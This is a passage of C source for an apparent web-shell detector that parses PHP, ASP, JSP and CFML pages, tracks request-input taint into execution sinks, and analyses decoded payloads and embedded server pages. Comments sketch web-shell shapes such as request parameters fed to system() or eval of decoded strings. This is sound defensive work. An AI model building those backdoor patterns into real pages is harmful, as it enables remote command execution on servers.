  if (c->hdr_parens) {
    c->hdr_parens++;
    return;
  }
  if (c->nst != 2 && c->nst != 3) return;
  const token *k = &c->st[c->nst - 2];
  if (k->kind != TK_IDENT || k->len < 2 || k->len > 7 || (c->nst == 3 && !tok_is(c, &c->st[0], TK_IDENT, "else")))
    return;
  const char *name = k->len == 6 && tok_text(c, k)[0] == 's' ? "switch" : kw[k->len];
  if (name && tok_is(c, k, TK_IDENT, name)) c->hdr_parens = 1;
}

/* The token after a header's ')': a body that is not a block ({, or the
 * alternative syntax's :) is a statement of its own, read after the
 * header, so that for (..; $i += 2) $b .= f($a) assigns $b, not $i. */
static void header_body(lang_ctx *c, token *t) {
  size_t at = c->hdr_close;
  c->hdr_close = 0;
  if (at != c->nst || (t->kind == TK_OP && t->len == 1 && strchr("{:;", c->sink.text.buf[t->off]))) return;
  c->hdr_split = 1;
  end_statement_before(c, t);
  /* the body is read one level deeper, as in braces: a loop's body is in the loop */
  c->depth++;
  c->body_depth++;
  c->body_base = c->depth;
}

/* The '{' just pushed opens the body of an anonymous class: new X(...) { */
static int anonymous_class_body(const lang_ctx *c) {
  if (c->nst < 4 || !is_op(c, c->nst - 2, ")")) return 0;
  int depth = 0;
  for (size_t k = c->nst - 2;; k--) {
    if (is_op(c, k, ")")) depth++;
    else if (is_op(c, k, "(") && --depth == 0) return k > 0 && c->st[k - 1].kind == TK_IDENT && (c->st[k - 1].flags & TF_NEW);
    if (k == 0) return 0;
  }
}

/* Java's String a = x, b = y; declares b as well: at the comma after a
 * complete first declarator, the statement so far is read on its own and
 * the next one starts with the same type (String b = y).  Returns 1 when
 * the comma was taken so. */
static int split_declarators(lang_ctx *c) {
  size_t eq = 0;
  int depth = 0;
  for (size_t i = 0; i < c->nst && !eq; i++) {
    if (tok_opens(c, &c->st[i])) depth++;
    else if (tok_closes(c, &c->st[i])) depth--;
    else if (depth == 0 && is_op(c, i, "=")) eq = i;
  }
  enum { MAX_TYPE = 12 };
  if (depth != 0 || eq < 2 || eq - 1 > MAX_TYPE || c->st[eq - 1].kind != TK_IDENT || c->st[0].kind != TK_IDENT ||
      eq + 1 >= c->nst || tok_is(c, &c->st[0], TK_IDENT, "return"))
    return 0;
  token type[MAX_TYPE];
  char text[MAX_TYPE][64];
  size_t ntype = eq - 1;
  for (size_t i = 0; i < ntype; i++) {
    if (c->st[i].len >= sizeof text[0]) return 0;
    type[i] = c->st[i];
    memcpy(text[i], tok_text(c, &c->st[i]), c->st[i].len);
  }
  process(c); /* empties the text arena: the type's text is put back below */
  for (size_t i = 0; i < ntype; i++) {
    type[i].off = lang_arena_put(&c->sink.text, text[i], type[i].len);
    c->st[c->nst++] = type[i];
  }
  return 1;
}

static void on_token(tok_sink *s, token *t) {
  lang_ctx *c = (lang_ctx *)s;
  if ((int)c->syn != s->syn) { /* the statement before is in the other language */
    end_statement_before(c, t);
    c->syn = (syntax)s->syn;
  }
  const char *text = s->text.buf + t->off;
  switch (t->kind) { /* the token's own notes, by its kind */
  case TK_STR:
    if (t->len > c->longest) c->longest = t->len;
    /* a long literal that looks encoded (judged by its start: the statistics only need an estimate) */
    if (t->len >= 64 && lang_stats_is_blob(text, t->len < 512 ? t->len : 512)) {
      c->blob_bytes += t->len;
      t->flags |= TF_BLOB;
    }
    if (t->len >= 64) note_carried_program(c, text, t->len);
    if (t->len >= 11 && c->syn == SYN_PHP) lang_technique_string(c, text, t->len, t->line); /* others: caps.c */
    break;
  case TK_IDENT:
    if (t->len > c->longest) c->longest = t->len;
    if (c->fn && c->syn == SYN_PHP && (t->len == 3 || t->len == 6 || t->len == 9 || t->len == 14) &&
        c->wrappers[c->fn - 1].shape != 3)
      lang_php_note_decoder_token(c, t);
    if ((t->len == 15 || t->len == 14) && c->syn == SYN_PHP &&
        (memcmp(text, "openssl_decrypt", 15 < t->len ? 15 : t->len) == 0 || memcmp(text, "mcrypt_decrypt", 14) == 0))
      c->decrypt_seen = 1;
    break;
  case TK_VAR:
    if (c->syn != SYN_PHP) break;
    if (c->fn && c->nst >= 2 && c->st[c->nst - 1].kind == TK_OP && c->wrappers[c->fn - 1].shape != 3)
      lang_php_note_decoder_token(c, t);
    if (!c->session_line && t->len == 9 && memcmp(text, "$_SESSION", 9) == 0)
      c->session_line = c->statements + 1; /* the statement being read */
    if (t->len >= 5 && (text[1] == '_' || text[1] == 'H') && lang_names_php_source(text, t->len)) {
      c->pcaps->request = 1;
      if ((t->len == 7 && memcmp(text, "$_FILES", 7) == 0) || (t->len == 16 && memcmp(text, "$HTTP_POST_FILES", 16) == 0))
        lang_php_caps_note(c, PCAP_UPLOAD, 1, t->line, "$_FILES");
    }
    break;
  case TK_OP:
    if (t->len >= 2 && ((text[t->len - 2] == '-' && text[t->len - 1] == '>') || (text[0] == ':' && text[1] == ':'))) {
      c->stmt_member = 1; /* ->, ?->, :: */
      if (text[0] == ':' && c->nst && c->st[c->nst - 1].kind == TK_IDENT &&
          (c->st[c->nst - 1].len == 3 || c->st[c->nst - 1].len == 4) &&
          (tok_is(c, &c->st[c->nst - 1], TK_IDENT, "ffi") || tok_is(c, &c->st[c->nst - 1], TK_IDENT, "\\ffi")))
        c->ffi_file = 1; /* FFI::cdef: its objects' methods are looked up through ffi_chain() */
    }
    break;
  case TK_END:
    process(c);
    return;
  }
  if (c->then_pending && t->kind != TK_END) {
    /* the statement after Then on its line is guarded by it; on a later line, Then opened a block */
    c->then_pending = 0;
    if (t->line != c->then_line) c->vb_blocks++, c->then_line = 0;
  }
  if (c->syn == SYN_VB && t->kind == TK_IDENT && c->nst && tok_is(c, t, TK_IDENT, "then") &&
      (tok_is(c, &c->st[0], TK_IDENT, "if") || tok_is(c, &c->st[0], TK_IDENT, "elseif"))) {
    /* If cond Then stmt on one line: what follows Then is a statement */
    int elseif = tok_is(c, &c->st[0], TK_IDENT, "elseif");
    process(c);
    if (!elseif) c->then_pending = 1, c->then_line = t->line; /* an ElseIf's block is its If's */
    return;
  }
  if (c->syn != SYN_PHP && t->kind == TK_IDENT && join(c, t)) return;
  if (t->kind == TK_IDENT && c->nst && tok_is(c, &c->st[c->nst - 1], TK_IDENT, "new")) {
    c->nst--;
    t->flags |= TF_NEW;
    /* VB.NET Dim w As New StreamWriter(p) is Dim w = New StreamWriter(p): an assignment that types w */
    if (c->syn == SYN_VB && c->nst >= 2 && tok_is(c, &c->st[c->nst - 1], TK_IDENT, "as") &&
        c->st[c->nst - 2].kind == TK_IDENT) {
      token *as = &c->st[c->nst - 1];
      as->kind = TK_OP;
      as->off = lang_arena_put(&c->sink.text, "=", 1);
      as->len = 1;
    }
  }
  if (c->hdr_close && c->syn == SYN_PHP) header_body(c, t);
  if (c->nst == c->capst) {
    c->capst = c->capst ? c->capst * 2 : 256;
    c->st = xrealloc(c->st, c->capst * sizeof *c->st);
  }
  /* PHP braces inside an expression: ${'name'}, $s{0}, $o->{'p'} */
  int expr_brace = 0;
  if (c->syn == SYN_PHP && t->kind == TK_OP && t->len == 1 && (text[0] == '{' || text[0] == '}')) {
    if (text[0] == '}' && c->ebrace > 0) {
      c->ebrace--;
      expr_brace = 1;
    } else if (text[0] == '{' && c->nst) {
      const token *p = &c->st[c->nst - 1];
      if (c->ebrace > 0 || p->kind == TK_VAR || tok_is(c, p, TK_OP, "$") || tok_is(c, p, TK_OP, "]") ||
          tok_is(c, p, TK_OP, "->") || tok_is(c, p, TK_OP, "::") || tok_is(c, p, TK_OP, "?->")) {
        c->ebrace++;
        expr_brace = 1;
      }
    }
  }
  if (c->syn == SYN_PHP) { /* what lang_php_effects and condition_assignments look for */
    if (t->kind == TK_OP) {
      if (t->len == 1 && text[0] == '=' && c->nst >= 2 && c->st[c->nst - 1].len == 2 &&
          tok_is(c, &c->st[c->nst - 1], TK_OP, "??") && c->st[c->nst - 1].src_end == t->src_off) {
        token *q = &c->st[c->nst - 1]; /* $c ??= x (PHP 7.4): read as $c = x, x being what it holds when unset */
        q->off = t->off;
        q->len = 1;
        q->src_end = t->src_end;
        return;
      }
      if (t->len == 1 && text[0] == '$') c->stmt_marks |= SM_DOLLAR;
      else if (t->len == 1 && text[0] == '&') c->stmt_marks |= SM_AMP;
      else if (t->len == 2 && (text[0] == '+' || text[0] == '-') && text[1] == text[0]) c->stmt_marks |= SM_INCDEC;
      else if (text[0] == '?' && (t->len == 1 || (t->len == 2 && text[1] == ':'))) c->stmt_marks |= SM_QUEST;
      else if (t->len == 1 && text[0] == '=' && c->nst >= 2 && c->st[c->nst - 1].kind == TK_VAR &&
               tok_is(c, &c->st[c->nst - 2], TK_OP, "("))
        c->stmt_marks |= SM_PASSIGN;
      else if (t->len == 1 && text[0] == ':' && c->parens > 0 && c->nst >= 2 && c->st[c->nst - 1].kind == TK_IDENT &&
               (tok_is(c, &c->st[c->nst - 2], TK_OP, "(") || tok_is(c, &c->st[c->nst - 2], TK_OP, ","))) {
        c->nst--; /* PHP 8 named arguments, f(name: value): the argument is read as if passed by position */
        return;
      }
    } else if (t->kind == TK_IDENT && t->len >= 7 &&
               (text[0] == 'e' || text[0] == 'i' || text[0] == 'p' || text[0] == 'm' || text[0] == 'u' || text[0] == '_')) {
      if (text[0] != '_') c->stmt_marks |= SM_CALL;
      else if (t->len == 11 && memcmp(text, "__construct", 11) == 0) c->stmt_marks |= SM_CTOR;
    } else if (t->kind == TK_IDENT && t->len == 5 && memcmp(text, "chmod", 5) == 0) {
      c->stmt_marks |= SM_CHMOD;
    } else if (t->kind == TK_IDENT && t->len == 14 && memcmp(text, "call_user_func", 14) == 0) {
      c->stmt_marks |= SM_CUF;
    }
  }
  if (c->syn == SYN_JAVA && t->kind == TK_OP && t->len == 1 && text[0] == ',' && c->parens == 0 && !c->init_braces &&
      split_declarators(c))
    return;
  c->st[c->nst++] = *t;
  /* a brace ends a statement, except inside parentheses: new String[]{...},
   * initializers and closures passed as arguments stay with their call */
  if (t->kind == TK_OP && t->len == 1) {
    if (text[0] == '(') c->parens++;
    else if (text[0] == ')' && c->parens > 0) c->parens--;
    if (c->syn == SYN_PHP) track_header(c, text[0]);
  }
  int brace = t->kind == TK_OP && t->len == 1 && (text[0] == '{' || text[0] == '}') && c->parens == 0 && !expr_brace;
  /* Java's f(new Filter() { ... }): the anonymous class's methods are statements of their own */
  if (!brace && c->syn == SYN_JAVA && t->kind == TK_OP && t->len == 1 && text[0] == '{' && c->parens > 0 &&
      anonymous_class_body(c))
    brace = 1;
  if (brace && c->syn != SYN_PHP) {
    /* = { ... }, ] { ... }: an initializer (String[] a = {...}; var o = {k: v}) stays in its statement */
    const token *prev = c->nst >= 2 ? &c->st[c->nst - 2] : NULL;
    if (text[0] == '{' && (c->init_braces || (prev && prev->kind == TK_OP && prev->len == 1 &&
                                               (tok_text(c, prev)[0] == '=' || tok_text(c, prev)[0] == ']'))))
      c->init_braces++, brace = 0;
    else if (text[0] == '}' && c->init_braces)
      c->init_braces--, brace = 0;
  }
  /* a payload cut into thousands of joined pieces is one statement: its
   * literals are joined as it grows, so it is not cut in two */
  if (!brace && c->nst >= MAX_STMT && ((c->syn == SYN_PHP && lang_php_compact(c)) | lang_fold_compact(c)) &&
      c->nst < MAX_STMT - MAX_STMT / 8)
    return;
  if (brace || c->nst >= MAX_STMT) process(c);
}

/* ---- files ------------------------------------------------------------- */

lang_ctx *lang_ctx_new(const lang_limits *lim) {
  lang_ctx *c = xcalloc(1, sizeof *c);
  c->symgen = 1;
  c->pcaps = &c->pcapsrec;
  c->sink.emit = on_token;
  c->lim = lim ? *lim : (lang_limits){LANG_DEFAULT_DEPTH, LANG_DEFAULT_DECODED, LANG_DEFAULT_MS};
  return c;
}

void lang_ctx_free(lang_ctx *c) {
  if (!c) return;
  free(c->pcapsrec.objprop);
  free(c->st);
  free(c->syms);
  free(c->fold_spans);
  free(c->fold_text);
  free(c->fold_out);
  lang_arena_free(&c->sink.text);
  lang_arena_free(&c->persist);
  free(c);
}

int lang_wanted(const char *filetype) {
  return filetype && (strcmp(filetype, "PHP") == 0 || strcmp(filetype, "ASP") == 0 ||
                      strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0 ||
                      strcmp(filetype, "CFM") == 0 || strcmp(filetype, "CONFIG") == 0 ||
                      strcmp(filetype, "CSHARP") == 0 || strcmp(filetype, "VBNET") == 0);
}

static void reset_file(lang_ctx *c) {
  c->nst = 0;
  c->sink.text.len = 0;
  lang_sym_reset(c);
  c->nwrappers = 0;
  memset(c->wrapper_bloom, 0, sizeof c->wrapper_bloom);
  c->lambda_level = c->prop_level = c->local_level = 0;
  c->iis_page = c->vpp_page = 0;
  c->built_wrappers = c->method_wrappers = c->php_decoders = c->decrypt_seen = c->dispatch_wrappers = 0;
  c->nlr_progs = 0, c->lrun_len = 0; /* decode loops (loop_run.c) */
  c->ninl_pool = 0;
  c->ncallconst = 0;
  c->nfold_spans = c->fold_bytes = c->fold_out_len = 0;
  c->fold_base = NULL;
  c->fn = c->fn_depth = c->depth = c->in_fn = 0;
  c->scope = c->scopes = 0;
  c->want_repass = c->saw_psi = c->saw_wmi_process = c->saw_task_service = 0;
  c->statements = 0;
  c->longest = c->blob_bytes = c->builders = 0;
  c->extracted = 0;
  c->nglobals = 0;
  c->values = 0;
  c->sink_wrappers = c->cap_wrappers = 0;
  c->glob_wrappers = c->ref_wrappers = c->fn_refbits = 0;
  c->glob_bloom = 0;
  c->nrefs = 0;
  c->sink_bloom = 0;
  free(c->pcapsrec.objprop);
  memset(&c->pcapsrec, 0, sizeof c->pcapsrec);
  c->pcaps = &c->pcapsrec;
  memset(&c->caps, 0, sizeof c->caps);
  c->dyn_line = c->alias_line = 0;
  c->nfnalias = 0;
  c->class_consts = 0;
  c->dyn_display = NULL;
  c->decoders = c->late_types = 0;
  c->script_write_line = c->register_line = c->fetch_fed_line = 0;
  c->servu_seen = c->servu_line = c->account_line = 0;
  c->hidden_calls = c->hidden_line = 0;
  c->mail_state = 0;
  c->hidden_names = 0;
  c->hidden_first[0] = '\0';
  c->script_write_display = c->register_display = NULL;
}

static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw,
                   syntax syn) {
  c->buf = buf;
  c->len = len;
  c->db_driver = 0; /* looked up in this buffer when first needed */
  c->ffi_file = 0;  /* FFI:: seen (on_token) */
  c->hdr_parens = 0, c->hdr_close = 0, c->body_depth = c->body_base = 0, c->hdr_split = 0;
  c->iis_page |= syn != SYN_PHP && syn != SYN_CFML && lang_iis_page(buf, len); /* kept for the file's payloads */
  c->vpp_page |= syn != SYN_PHP && syn != SYN_CFML && syn != SYN_JAVA && lang_vpp_page(buf, len);
  c->fn = c->lent_fn;
  c->fn_depth = c->depth = c->in_fn = 0;
  c->scope = c->scopes = 0; /* the same numbering on a second pass */
  c->ob_sink = NULL;        /* state that follows the flow starts again */
  c->ob_keep = 0;
  c->nrefs = 0;             /* aliases too (php_refs.c) */
  c->fn_refbits = 0;
  c->extracted = 0;
  c->nglobals = 0;
  c->vb_blocks = c->then_line = 0; /* control flow starts again */
  c->then_pending = c->cf_remote = 0;
  c->cond_braces = 0;
  c->brace_level = 0;
  c->cbtail.open = c->cbtail.closed = c->cbtail.reading = 0;
  c->choice_var[0] = c->fnlist_var[0] = c->anon_var[0] = '\0';
  c->err_handler_sink = c->exc_handler_sink = c->autoload_sink = NULL;
  c->foreach_var[0] = c->join_var[0] = c->loopdec[0] = '\0'; /* loops being read (php_decoder.c) */
  c->loopdec_seen = 0;
  c->syn = syn;
  c->sink.syn = (int)syn;
  if (syn == SYN_PHP && c->reorder) lang_php_lex_goto(&c->sink, buf, len, raw);
  else if (syn == SYN_PHP) lang_lex_php(&c->sink, buf, len, raw);
  else if (syn == SYN_CFML) lang_lex_cfml(&c->sink, buf, len, raw);
  else if (raw && syn == SYN_VB) lang_lex_vb(&c->sink, buf, len, 0, 1);
  else if (raw) lang_lex_clike(&c->sink, buf, len, syn, 0, 1);
  else lang_lex_page(&c->sink, buf, len, filetype);
  process(c); /* whatever the last statement left */
}

/* Request input held by some variable (a parameter is not). */
static int any_taint(const lang_ctx *c) {
  for (size_t i = 0; i < c->capsyms; i++)
    if (lang_sym_live(c, &c->syms[i]) && c->syms[i].has_taint && !(c->syms[i].t.flags & TA_WEAK)) return 1;
  return c->extracted;
}

/* An object type known for some variable. */
static int any_type(const lang_ctx *c) {
  for (size_t i = 0; i < c->capsyms; i++)
    if (lang_sym_live(c, &c->syms[i]) && c->syms[i].has_type) return 1;
  return 0;
}

/* Would a second pass see more?  PHP: only if a function was called
 * before it was defined, or a variable a sink got untainted is tainted
 * now; other languages: if anything is tainted. */
static int repass_useful(lang_ctx *c) {
  /* VBScript/JScript: page decoders and objects typed after their use, wherever defined */
  if (!c->budget->exhausted && (c->decoders || (c->late_types && any_type(c)))) return 1;
  if (!c->budget->exhausted && c->late_sink) return 1; /* f($_GET['c']) ... function f($x) { system($x); } */
  if (!c->budget->exhausted && c->late_decoder && c->php_decoders) return 1; /* eval(d('...')) ... function d($s) */
  if (!c->budget->exhausted && c->late_cap && any_taint(c)) return 1; /* f($_POST['d']) ... function f($x) { opendir($x); } */
  if (!c->budget->exhausted && c->session_late && c->varcall_seen) return 1; /* a name the session holds, called */
  if (!c->budget->exhausted && c->late_prop) return 1; /* system($this->c) ... $this->c = $_POST['c'] */
  if (!c->want_repass || c->budget->exhausted || !any_taint(c)) return 0;
  if (c->syn != SYN_PHP || c->late_wrapper || c->nrepass_vars == sizeof c->repass_vars / sizeof c->repass_vars[0])
    return 1;
  unsigned scope = c->scope;
  int useful = 0;
  for (unsigned k = 0; k < c->nrepass_vars && !useful; k++) {
    c->scope = c->repass_vars[k].scope;
    sym *s = lang_sym_get(c, c->repass_vars[k].name, strlen(c->repass_vars[k].name), 0);
    useful = s && s->has_taint && !(s->t.flags & TA_WEAK);
  }
  c->scope = scope;
  return useful;
}

/* A piece of PHP code saved without its open tag (cut from a trojaned
 * file, or meant to be pasted into one): no "<?" or "<script" anywhere,
 * and the first thing in it is a variable.  Read as code from the start;
 * PHP itself would print it, but it is the same code. */
static int php_fragment(const unsigned char *buf, size_t len) {
  size_t i = len >= 3 && memcmp(buf, "\xef\xbb\xbf", 3) == 0 ? 3 : 0; /* a byte-order mark an editor put first */
  while (i < len && (buf[i] == ' ' || buf[i] == '\t' || buf[i] == '\r' || buf[i] == '\n')) i++;
  if (i + 1 >= len || buf[i] != '$' || !lang_lex_ident_start(buf[i + 1])) return 0;
  return !memmem(buf, len, "<?", 2) && !memmem(buf, len, "<script", 7) && !memmem(buf, len, "<SCRIPT", 7);
}

static void run(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw, syntax syn) {
  c->pass = 1;
  c->nrepass_vars = 0;
  c->late_wrapper = c->late_sink = c->late_cap = 0;
  c->late_decoder = 0;
  c->session_line = 0;
  c->session_late = c->varcall_seen = 0;
  memset(c->called_bloom, 0, sizeof c->called_bloom);
  memset(c->called_top_bloom, 0, sizeof c->called_top_bloom);
  memset(c->called_tainted_bloom, 0, sizeof c->called_tainted_bloom);
  memset(c->sink_prop_bloom, 0, sizeof c->sink_prop_bloom);
  c->late_prop = 0;
  memset(c->called_method_bloom, 0, sizeof c->called_method_bloom);
  c->reorder = c->reorder_wanted = 0;
  lex_as(c, buf, len, filetype, raw, syn);
  if (repass_useful(c)) {
    c->pass = 2;
    lang_sym_forget_locals(c); /* inside a function, taint holds from where it is set on */
    lex_as(c, buf, len, filetype, raw, syn);
  }
  if (!c->budget->exhausted && (((c->reorder_wanted & 1) && c->pcaps->request) || (c->reorder_wanted & 2))) {
    /* goto spaghetti in a file that reads the request (generated parsers
     * have gotos but no request input), or data after __halt_compiler():
     * read once more in the order the jumps lead, with the data as the file
     * reads it (php_goto.c) */
    c->pass = 2;
    c->reorder = 1;
    lang_sym_forget_locals(c);
    lex_as(c, buf, len, filetype, raw, syn);
    c->reorder = 0;
  }
}

static lang_ctx *child(lang_ctx *c, const char *prefix, unsigned line) {
  lang_ctx *k = lang_ctx_new(&c->lim);
  k->budget = c->budget;
  k->parent = c;
  k->extracted = c->extracted && c->extract_scope == c->scope;
  k->extract_t = c->extract_t;
  memcpy(k->wrappers, c->wrappers, c->nwrappers * sizeof *c->wrappers); /* its functions can be called */
  k->nwrappers = c->nwrappers;
  memcpy(k->wrapper_bloom, c->wrapper_bloom, sizeof k->wrapper_bloom);
  /* a lookup function's table is in c's persist arena: k reads its own copy */
  for (size_t j = 0; j < k->nwrappers; j++)
    if (k->wrappers[j].tbl_len)
      k->wrappers[j].tbl_off = lang_arena_put(&k->persist, c->persist.buf + c->wrappers[j].tbl_off, c->wrappers[j].tbl_len);
  /* ... and so are the bodies of inlinable functions (php_inline.c) */
  memcpy(k->inl_pool, c->inl_pool, c->ninl_pool * sizeof *c->inl_pool);
  k->ninl_pool = c->ninl_pool;
  for (size_t j = 0; j < k->ninl_pool; j++)
    if (k->inl_pool[j].len) k->inl_pool[j].off = lang_arena_put(&k->persist, c->persist.buf + c->inl_pool[j].off, c->inl_pool[j].len);
  k->sink_wrappers = c->sink_wrappers;
  k->built_wrappers = c->built_wrappers;
  k->method_wrappers = c->method_wrappers;
  k->dispatch_wrappers = c->dispatch_wrappers;
  k->php_decoders = c->php_decoders;
  k->decrypt_seen = c->decrypt_seen;
  k->sink_bloom = c->sink_bloom;
  k->cap_wrappers = c->cap_wrappers;
  k->pcaps = c->pcaps; /* a payload's capabilities are the file's */
  k->res = c->res;
  k->level = c->level + 1;
  k->prefix = xasprintf("%s%s", c->prefix ? c->prefix : "", prefix ? prefix : "");
  k->outer_line = c->level ? c->outer_line : line;
  return k;
}

static void free_child(lang_ctx *c, lang_ctx *k) {
  c->builders += k->builders;
  lang_caps_merge(&c->caps, &k->caps);
  if (!c->script_write_line) c->script_write_line = k->script_write_line, c->script_write_display = k->script_write_display;
  if (!c->fetch_fed_line) c->fetch_fed_line = k->fetch_fed_line;
  if (!c->register_line) c->register_line = k->register_line, c->register_display = k->register_display;
  c->servu_seen |= k->servu_seen;
  if (!c->servu_line) c->servu_line = k->servu_line;
  if (!c->account_line) c->account_line = k->account_line;
  free((char *)k->prefix);
  lang_ctx_free(k);
}

/* The page's variables, functions and run-time findings lent to the
 * context k that reads code the page runs in its own scope (VBScript
 * Execute, JScript eval, CFML Evaluate): what the page assigned before is
 * known inside, and what the code assigns or defines is known after.  The
 * table itself is lent (k may grow it), so k reads no parent besides. */
static void lend_scope(lang_ctx *k, lang_ctx *c) {
  k->parent = NULL;
  k->lent_fn = c->fn; /* Cmd = Request("c") run by Execute inside Property Get Cmd is its return */
  k->syms = c->syms, k->capsyms = c->capsyms, k->nsyms = c->nsyms, k->symgen = c->symgen;
  lang_arena_free(&k->persist); /* the tables copied by child() are c's own again */
  k->persist = c->persist;
  for (size_t j = 0; j < c->nwrappers && j < k->nwrappers; j++) k->wrappers[j].tbl_off = c->wrappers[j].tbl_off;
  memcpy(k->inl_pool, c->inl_pool, c->ninl_pool * sizeof *c->inl_pool);
  k->values = c->values;
  k->alias_line = c->alias_line;
  k->dyn_line = c->dyn_line, k->dyn_display = c->dyn_display;
  k->caps = c->caps;
  k->script_write_line = c->script_write_line, k->script_write_display = c->script_write_display;
  k->fetch_fed_line = c->fetch_fed_line;
  k->register_line = c->register_line, k->register_display = c->register_display;
  k->saw_task_service = c->saw_task_service;
  k->iis_page = c->iis_page;
  k->vpp_page = c->vpp_page;
  k->saw_wmi_process = c->saw_wmi_process; /* Execute "Set p = svc.Get(""Win32_Process"")": typed in one, used in another */
}

static void take_back_scope(lang_ctx *c, lang_ctx *k) {
  c->syms = k->syms, c->capsyms = k->capsyms, c->nsyms = k->nsyms;
  c->persist = k->persist;
  c->values |= k->values;
  memcpy(c->wrappers, k->wrappers, k->nwrappers * sizeof *k->wrappers);
  c->nwrappers = k->nwrappers;
  memcpy(c->wrapper_bloom, k->wrapper_bloom, sizeof c->wrapper_bloom);
  c->glob_wrappers |= k->glob_wrappers;
  c->glob_bloom |= k->glob_bloom;
  c->ref_wrappers |= k->ref_wrappers;
  c->alias_line = k->alias_line;
  c->dyn_line = k->dyn_line, c->dyn_display = k->dyn_display;
  c->caps = k->caps;
  c->script_write_line = k->script_write_line, c->script_write_display = k->script_write_display;
  c->fetch_fed_line = k->fetch_fed_line;
  c->register_line = k->register_line, c->register_display = k->register_display;
  c->saw_wmi_process |= k->saw_wmi_process;
  c->saw_task_service |= k->saw_task_service;
  c->iis_page |= k->iis_page;
  c->vpp_page |= k->vpp_page;
  c->want_repass |= k->want_repass; /* the code read a variable the page may taint later */
  c->late_types |= k->late_types;
  c->decoders |= k->decoders;
  k->syms = NULL, k->capsyms = k->nsyms = 0;
  k->persist = (arena){0};
}

/* VBScript's Execute/ExecuteGlobal, JScript's and PHP's eval and CFML's
 * Evaluate run a string in the caller's scope; ScriptControl and CodeDom
 * are left to their own. */
static int runs_in_scope(const name_def *d) {
  static const char *const own[] = {"execute", "executeglobal", "eval", "evaluate", "precisionevaluate"};
  if (!d) return 0;
  for (size_t k = 0; k < sizeof own / sizeof own[0]; k++)
    if (strcmp(d->name, own[k]) == 0) return 1;
  return 0;
}

/* Code found inside the file (a decoded payload; with page set, a whole
 * server page kept in a string, or PHP read from outside <?php) analysed
 * one level deeper, in the scope of the code that holds it. */
static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
                         unsigned line) {
  if (c->level + 1 >= c->lim.max_depth) {
    c->budget->exhausted = 1;
    if (!c->budget->why) c->budget->why = "decode depth limit";
    return;
  }
  int shared = c->shared_next; /* set by check_sink for Execute/eval; one read only */
  c->shared_next = 0;
  lang_ctx *k = child(c, prefix, line);
  /* the payload lives in c's statement arena, which k never touches */
  unsigned char *copy = xmalloc(n ? n : 1);
  memcpy(copy, code, n);
  if (shared) lend_scope(k, c);
  run(k, copy, n, page, page == NULL, syn);
  if (shared) take_back_scope(c, k);
  free(copy);
  free_child(c, k);
}

void lang_read_payload(lang_ctx *c, const char *code, size_t n, int raw, const char *prefix, unsigned line) {
  analyze_code(c, code, n, c->syn, raw ? NULL : "PHP", prefix, line);
}

const name_def *lang_probe_callable(lang_ctx *c, const char *params, size_t pn, const char *body, size_t bn,
                                    uint8_t *chain, uint8_t *nchain) {
  *nchain = 0;
  if (c->level + 1 >= c->lim.max_depth || c->budget->exhausted) return NULL;
  lang_ctx *k = child(c, NULL, 0);
  k->probe = 1;
  k->syn = SYN_PHP;
  unsigned idx = 0;
  for (size_t i = 0; i < pn; i++) { /* '$a, $b' */
    if (params[i] != '$') continue;
    size_t j = i + 1;
    while (j < pn && lang_lex_ident_char((unsigned char)params[j])) j++;
    sym *s = lang_sym_get(k, params + i, j - i, 1);
    if (s) {
      memset(&s->t, 0, sizeof s->t);
      snprintf(s->t.src, sizeof s->t.src, "%.*s", (int)(j - i), params + i);
      s->t.flags = TA_PARAM | TA_PURE;
      s->t.param = (uint8_t)++idx;
      s->has_taint = 1;
    }
    i = j;
  }
  unsigned char *copy = xmalloc(bn ? bn : 1);
  memcpy(copy, body, bn);
  k->pass = 1;
  lex_as(k, copy, bn, NULL, 1, SYN_PHP);
  const name_def *d = k->probe_sink;
  c->probe_param = k->probe_param; /* which parameter reached it (the caller reads it right after) */
  memcpy(chain, k->probe_chain, k->nprobe_chain);
  *nchain = k->nprobe_chain;
  free(copy);
  free_child(c, k);
  return d;
}

static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix, unsigned line) {
  analyze_code(c, code, n, syn, NULL, prefix, line);
}

/* Request.Item[, request.getParameter(, Request.Form( at the start of a
 * decoded literal: code, not data. */
static int hides_request(const char *s, size_t n) {
  if (n < 10 || n > 256 || strncasecmp(s, "request", 7) != 0) return 0;
  return s[7] == '[' || s[7] == '(' || (s[7] == '.' && n > 9);
}

/* A JSP or ASP page kept in a string literal (a dropper writes it out
 * later): read it as the page it is. */
static void embedded_pages(lang_ctx *c) {
  static const char *const kinds[] = {[SYN_JAVA] = "JSP", [SYN_CSHARP] = "ASPX", [SYN_VB] = "ASP",
                                      [SYN_JSCRIPT] = "ASP"};
  if (c->level || c->syn == SYN_PHP || c->syn == SYN_CFML) return;
  for (size_t i = 0; i < c->nst; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_STR || (t->flags & TF_BINARY)) continue;
    const char *s = tok_text(c, t);
    if (t->nchain && hides_request(s, t->len)) {
      char chain[96], quote[40];
      lang_chain_text(t->chain, t->nchain, NULL, chain, sizeof chain);
      snprintf(quote, sizeof quote, "%.*s", (int)(t->len < 32 ? t->len : 32), s);
      for (char *q = quote; *q; q++) *q = (*q < 0x20 || *q == 0x7f) ? '.' : *q;
      lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 60, t->line,
                    "a literal decoded by %s hides code that reads the request (\"%s\") (line %u)", chain, quote,
                    t->line);
      continue;
    }
    if (t->len < 24 || !memmem(s, t->len, "<%", 2) || !(memmem(s, t->len, "equest", 6))) continue;
    char prefix[96];
    snprintf(prefix, sizeof prefix, "a server page kept in a string (line %u): ", t->line);
    analyze_code(c, s, t->len, c->syn, kinds[c->syn], prefix, t->line);
  }
}

/* What only the whole page shows: code run from a value built at run
 * time in a page that fetches code over HTTP or carries a long encoded
 * literal, and eval passed around as a value in a page reading requests. */
static void page_verdicts(lang_ctx *c) {
  int others = c->res->ndet > 0;
  if (c->dyn_line && !others && (c->caps.seen & CAP_FETCH))
    lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 65, c->dyn_line,
                  "%s runs code built at run time (line %u) in a page that fetches content over HTTP (%s, line %u)",
                  c->dyn_display, c->dyn_line, c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)]);
